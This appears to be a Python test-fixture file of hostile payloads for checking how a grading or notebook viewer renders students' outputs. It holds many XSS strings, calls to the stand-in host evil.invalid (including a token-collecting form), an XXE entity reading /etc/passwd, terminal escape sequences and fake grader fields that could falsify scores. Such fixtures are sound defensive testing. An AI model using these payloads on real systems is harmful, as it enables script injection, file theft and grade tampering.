"""Payloads for everything that shows a student's work: each once as HTML, Markdown, SVG or text.

Whatever runs says so: it sets ``window.hit``, or asks ``evil.invalid`` for something.
"""

from __future__ import annotations

from typing import Any

HIT = "window.hit=1"
EVIL = "http://evil.invalid/"

HTML = {
    "script": f"<script>{HIT}</script>",
    "script from elsewhere": f'<script src="{EVIL}x.js"></script>',
    "nested script": f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    "onerror": f'<img src=x onerror="{HIT}">',
    "slash for space": f"<img/src=x/onerror={HIT}>",
    "capitals": f'<IMG SRC=x OnErRoR="{HIT}">',
    "javascript link": f'<a href="javascript:{HIT}">click</a>',
    "javascript link with a tab": f'<a href="java\tscript:{HIT}">click</a>',
    "javascript link with an entity": f'<a href="&#106;avascript:{HIT}">click</a>',
    "link that a filter shortens": f'<a href="files/javascript:{HIT}">click</a>',
    "data link": f'<a href="data:text/html,<script>{HIT}</script>">click</a>',
    "svg onload": f'<svg onload="{HIT}"></svg>',
    "svg animate": f'<svg><a><animate attributeName=href values="javascript:{HIT}"/></a></svg>',
    "iframe": f'<iframe src="{EVIL}"></iframe>',
    "iframe with a document": f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "base": f'<base href="{EVIL}">',
    "style sheet": f'<link rel="stylesheet" href="{EVIL}x.css">',
    "style": f"<style>body{{background:url({EVIL})}}</style>",
    "style with an address": f'<p style="background:url({EVIL}x.png)">x</p>',
    "style with an escape": f'<p style="background:\\75rl({EVIL}x.png)">x</p>',
    "style with an image set": f"<p style=\"background:image-set('{EVIL}x.png' 1x)\">x</p>",
    "style with an expression": f'<p style="width:expression({HIT})">x</p>',
    "overlay": '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    "pulled over its neighbours": '<div style="margin-top:-900px">All points.</div>',
    "form": f'<form action="{EVIL}"><input name=token><button>Log in</button></form>',
    "formaction": f'<button formaction="javascript:{HIT}">x</button>',
    "autofocus": f'<input autofocus onfocus="{HIT}">',
    "object": f'<object data="{EVIL}"></object>',
    "embed": f'<embed src="{EVIL}">',
    "remote picture": f'<img src="{EVIL}x.png">',
    "remote picture by srcset": f'<img srcset="{EVIL}x.png 1x">',
    "video": f'<video src="{EVIL}x.mp4" poster="{EVIL}x.png" onerror="{HIT}"></video>',
    "old background": f'<table background="{EVIL}x.png"><tr><td>x</td></tr></table>',
    "svg as picture": '<img src="data:image/svg+xml,<svg onload=1>">',
    "false picture": '<img src="data:image/png;base64,PHNjcmlwdD4=">',
    "mutation by math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
    f'&lt;img src=x onerror={HIT}&gt;">',
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    "mutation by svg style": f'<svg></p><style><a id="</style><img src=x onerror={HIT}>">',
    "mutation by select": f"<select><template><img src=x onerror={HIT}></template></select>",
    "comment": f"<!--><img src=x onerror={HIT}>-->",
    "processing instruction": f"<?x <img src=x onerror={HIT}>?>",
    "unclosed tag": f"<div title='x' onmouseover={HIT} ",
    "unclosed comment": f"<!-- <img src=x onerror={HIT}>",
    "a grader's field": '<input class="score" id="explain_losses" value="3">',
    "a grader's element": '<div id="explain_losses-comment" class="score" name="x">x</div>',
    "widget": f'<script type="application/vnd.jupyter.widget-view+json">{{"x": "{EVIL}"}}</script>',
    "details": f'<details open ontoggle="{HIT}"><summary>x</summary></details>',
    "deep": "<div>" * 5_000 + "x",
    "very deep": "<div>" * 500_000 + "x",
}

MARKDOWN = {
    **HTML,
    "link": f"[click](javascript:{HIT})",
    "link with an entity": f"[click](java&#115;cript:{HIT})",
    "link by reference": f"[click][x]\n\n[x]: javascript:{HIT}",
    "autolink": f"<javascript:{HIT}>",
    "link that is shortened": f"[click](files/javascript:{HIT})",
    "picture": f"![x]({EVIL}x.png)",
    "picture by reference": f"![x][y]\n\n[y]: {EVIL}x.png",
    "picture that breaks out": f'![x" onerror="{HIT}](x)',
    "title that breaks out": f"[x](http://a.b '\"onmouseover=\"{HIT}')",
    "mermaid": f"```mermaid\n<img src=x onerror={HIT}>\n```",
    "language": f'```"><img/src=x/onerror={HIT}>\nx\n```',
    "block": f"<div onclick={HIT}\n\nx",
    "heading": f"# <img src=x onerror={HIT}>",
    "math": f"$$<img src=x onerror={HIT}>$$",
    "environment": f"\\begin{{a}}<img src=x onerror={HIT}>\\end{{a}}",
    "table": f"a|b\n-|-\n<img src=x onerror={HIT}>|x",
    "missing picture": "![x](attachment:missing.png)",
    "out of a fence": f"````\n```\n<img src=x onerror={HIT}>\n````\n<img src=x onerror={HIT}>",
    "endless": "x" * 100_000,
}

SVG = {
    "script": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{HIT}</script></svg>',
    "onload": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HIT}"/>',
    "foreign object": '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://'
    f'www.w3.org/1999/xhtml" onload="{HIT}"/></foreignObject></svg>',
    "remote picture": '<svg xmlns="http://www.w3.org/2000/svg"><image href="' + EVIL + '"/></svg>',
    "remote use": '<svg xmlns="http://www.w3.org/2000/svg"><use href="' + EVIL + '#a"/></svg>',
    "style": f'<svg xmlns="http://www.w3.org/2000/svg"><g style="fill:url({EVIL})"/></svg>',
    "entity": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    "laughs": '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><svg>&b;</svg>',
    "not XML": "<svg><p></svg>",
    "uses of groups": '<svg xmlns="http://www.w3.org/2000/svg"><g id="a"><path d="M0 0"/></g>'
    '<use href="#a"/></svg>',
}

TEXT = {
    "link": "\x1b]8;;http://evil.invalid/\x1b\\click\x1b]8;;\x1b\\",
    "title": "\x1b]0;owned\x07",
    "cursor": "0 points\x1b[1A\x1b[2Kall points",
    "erase": "\x1b[2J\x1b[H",
    "one-byte control": "\x9b2J\x9d0;x\x9c",
    "device control": "\x1bP$q\x1b\\ \x1b_x\x1b\\",
    "escape made of two": "\x1b\x1b[2J[2J",
    "odd colours": "\x1b[38;5;999m\x1b[38;2;1m\x1b[999;;;m\x1b[48m\x1b[38;2;300;300;300mx",
    "bidi override": "access \u202e stnioP \u2066x\u2069",
    "NUL": "a\x00b\x08\x08c\x7f",
    "half characters": "a\ud800b\udfff",
    "carriage return": "0 points\rall points",
    "HTML": f"<script>{HIT}</script><img src=x onerror={HIT}>",
    "invisible": "a\u200bb\ufeff\u2028c",
    "tag in a colour": f"\x1b[<img src=x onerror={HIT}>m",
}

ODD: list[Any] = [
    None,
    3,
    "stream",
    [],
    {},
    {"output_type": 3},
    {"output_type": ["stream"]},
    {"output_type": "stream"},
    {"output_type": "stream", "name": {"x": 1}, "text": {"x": 1}},
    {"output_type": "stream", "name": "<b>", "text": ["a", 3]},
    {"output_type": "error"},
    {"output_type": "error", "ename": 3, "evalue": [1], "traceback": "x"},
    {"output_type": "error", "ename": "<b>", "evalue": None, "traceback": [1, None, ["x"], "y"]},
    {
        "output_type": "error",
        "ename": "E" * 10**6,
        "evalue": "v" * 10**6,
        "traceback": ["x"] * 10**5,
    },
    {"output_type": "display_data"},
    {"output_type": "display_data", "data": []},
    {"output_type": "display_data", "data": {"text/plain": 3, "text/html": {"x": 1}}},
    {"output_type": "display_data", "data": {"image/png": "PHNjcmlwdD4=", "image/jpeg": "%%"}},
    {"output_type": "display_data", "data": {"application/javascript": HIT}},
    {"output_type": "display_data", "data": {f"<img src=x onerror={HIT}>": "x"}},
    {"output_type": "display_data", "data": {"application/vnd.jupyter.widget-view+json": {"a": 1}}},
    {"output_type": "display_data", "data": {"application/vnd.vega.v5+json": {"a": EVIL}}},
    {
        "output_type": "display_data",
        "data": {"text/html": "x"},
        "metadata": {"text/html": {"isolated": True}, "filenames": {"image/png": EVIL}},
    },
    {"output_type": "execute_result", "data": {"text/plain": "1"}, "execution_count": -1},
    {"output_type": "execute_result", "data": {"text/plain": "1"}, "execution_count": True},
    {"output_type": "execute_result", "data": {"text/plain": "1"}, "execution_count": 10**400},
    {"output_type": "update_display_data", "data": {"text/html": "x"}},
    {"output_type": "stream", "name": "stdout", "text": "x" * 10**6},
    {"output_type": "stream", "name": "stdout", "text": "x", "evil": EVIL, "metadata": {"a": 1}},
]


def hostile_outputs() -> list[Any]:
    """Every payload as the output of a cell."""
    return [
        *({"output_type": "display_data", "data": {"text/html": each}} for each in HTML.values()),
        *(
            {"output_type": "display_data", "data": {"text/markdown": each}}
            for each in MARKDOWN.values()
        ),
        *(
            {"output_type": "display_data", "data": {"image/svg+xml": each}}
            for each in SVG.values()
        ),
        *({"output_type": "stream", "name": "stderr", "text": each} for each in TEXT.values()),
        *(
            {"output_type": "execute_result", "data": {"text/plain": each, "text/latex": each}}
            for each in TEXT.values()
        ),
        *(
            {"output_type": "error", "ename": each, "evalue": each, "traceback": [each]}
            for each in TEXT.values()
        ),
        *ODD,
    ]
